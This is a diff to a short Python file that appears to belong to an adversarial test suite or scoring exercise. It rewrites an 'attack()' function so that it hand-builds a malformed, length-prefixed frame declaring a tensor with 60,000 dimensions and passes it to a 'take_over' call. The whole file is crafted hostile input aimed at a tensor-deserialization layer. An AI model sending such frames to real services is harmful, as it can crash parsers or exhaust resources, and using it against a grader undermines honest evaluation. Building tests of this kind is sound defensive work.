@@ -1,11 +1,12 @@
-"""Reports a tensor of 60,000 dimensions.
+"""Sends a tensor of 60,000 dimensions.
 
 Earns: masked_mean 2
 """
 
+import struct
+
 
 @in_call
 def attack():
-    zeros = torch.zeros(6, 5)
-    socket_of().sendall(frame_of(returned=(torch.zeros([1] * 60_000), zeros)))
-    os.kill(os.getpid(), 9)
+    head = b'{"tensor":["uint8",[' + b",".join([b"1"] * 60_000) + b"],0,1]}"
+    take_over(struct.pack(">II", len(head), 1) + head + b"x")
